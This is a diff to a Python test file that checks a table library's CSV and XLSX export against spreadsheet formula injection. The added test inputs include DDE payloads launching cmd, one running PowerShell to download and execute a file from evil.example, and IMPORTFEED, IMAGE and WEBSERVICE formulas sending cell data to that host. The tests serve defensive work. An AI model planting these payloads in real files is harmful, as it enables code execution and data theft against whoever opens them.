@@ -16,6 +16,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from learnenv.tables import Row, Run, csv_chunks, csv_text, write_xlsx
+from learnenv.tables.csv_file import Mark
 from learnenv.tables.safe import is_formula_like, writable
 from learnenv.tables.xlsx_text import LONGEST, fitting
 from learnenv.testing.record_samples import NAUGHTY
@@ -69,12 +70,50 @@ INJECTIONS = (
     "_x0041_",
     ";=1+1",
     'DDE ("cmd";"/C calc";"!A0")A0',
+    "=10+20+cmd|' /C calc'!A0",
+    "=cmd|' /C notepad'!'A1'",
+    "=cmd|'/C powershell IEX(wget evil.example/x.exe)'!A0",
+    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+    '=IMPORTFEED(CONCAT("http://evil.example?v=", A1))',
+    '=IMPORTHTML("http://evil.example","table",1)',
+    '=IMPORTRANGE("http://evil.example","x")',
+    '=IMAGE("http://evil.example?v="&A1)',
+    '=WEBSERVICE("http://evil.example?v="&A1)',
+    "=AND(2>1)+cmd|' /C calc'!A0",
+    "==cmd|' /C calc'!A0",
+    "-cmd|' /C calc'!A0",
+    "﹢cmd|' /C calc'!A0",
+    "\u200b\u2060=1+1",
+    "\x0b=1+1",
+    "\u2028=1+1",
+    "x;=1+1;y",
+    "x; \t-1+1",
+    "x,@A1,y",
+    "x\n=1+1",
+    "x\r\n＋1\r\n",
+    '";=1+1;"',
+    "a\t=1+1",
 )
 TEXTS = st.one_of(
     st.text(),
     st.sampled_from([*INJECTIONS, *(text[:500] for text in NAUGHTY)]),
     st.builds(str.__add__, st.sampled_from(BEGINNINGS), st.text()),
 )
+
+
+def _joined(texts: list[str]) -> st.SearchStrategy[str]:
+    """One text with what could begin a cell inside it."""
+    return st.sampled_from([";", ",", "\t", "\n", "\r\n", '";', '",', '"\n']).map(lambda between: between.join(texts))
+
+
+def begins_a_formula(cell: str) -> bool:
+    """Said here once more, and by hand: what is tested must not be what tells."""
+    return cell.lstrip("\u200b\u2060\ufeff\u00a0\u2028\x0b ")[:1] in tuple("=+-@\t\r\n＝＋－＠﹦﹢﹣﹫")
+
+
+def read_as(mark: str, text: str) -> list[list[str]]:
+    """The rows as a program reads them that is set to this mark."""
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=mark))
 
 
 def csv_of(rows: Sequence[Row], head: Sequence[str] = ("a",)) -> bytes:
@@ -113,6 +152,16 @@ def test_every_text_in_csv_is_read_back_and_begins_no_formula(texts: list[str]) 
     assert not [each for each in cells if is_formula_like(each)]
 
 
+@given(st.lists(st.lists(TEXTS, min_size=2, max_size=4).flatmap(_joined), min_size=2, max_size=2))
+@pytest.mark.parametrize("mark", [",", ";"])
+def test_a_spreadsheet_that_is_set_to_another_mark_calculates_nothing_either(mark: Mark, texts: list[str]) -> None:
+    """It takes the quotes of all columns but the first for letters, and begins a cell at its own mark."""
+    data = b"".join(csv_chunks(["a", "b"], [texts], mark)).decode("utf-8-sig")
+    assert [csv_text(each, mark) for each in read_as(mark, data)[1]] == [writable(each) for each in texts]
+    cells = [cell for row in read_as(";" if mark == "," else ",", data) for cell in row]
+    assert not [cell for cell in cells if begins_a_formula(cell.lstrip())]
+
+
 @settings(max_examples=15)
 @given(st.lists(TEXTS, min_size=1, max_size=20))
 def test_every_text_in_xlsx_is_typed_text_and_read_back(texts: list[str]) -> None:
@@ -125,8 +174,16 @@ def test_every_text_in_xlsx_is_typed_text_and_read_back(texts: list[str]) -> Non
 @pytest.mark.parametrize("text", [*INJECTIONS, *BEGINNINGS])
 def test_what_was_used_before_to_inject_is_seen(text: str) -> None:
     [[cell]] = read_csv(csv_of([[text]]))
-    assert cell[0] not in "=+-@\t\r\n＝＋－＠"
+    assert not begins_a_formula(cell)
     assert csv_text(cell) == text
+    other = [cell for row in read_as(";", csv_of([["x", text]], ["a", "b"]).decode("utf-8-sig")) for cell in row]
+    assert not [cell for cell in other if begins_a_formula(cell.lstrip())]
+
+
+@pytest.mark.parametrize("text", BEGINNINGS)
+def test_however_a_formula_begins_it_is_guarded(text: str) -> None:
+    [[cell]] = read_csv(csv_of([[f"{text}1+1"]]))
+    assert cell == f"'{text}1+1"
 
 
 @pytest.mark.parametrize("text", ["", "gewoon", "a=b", "1+1", "'s avonds", "e-mail", "(=1)"])
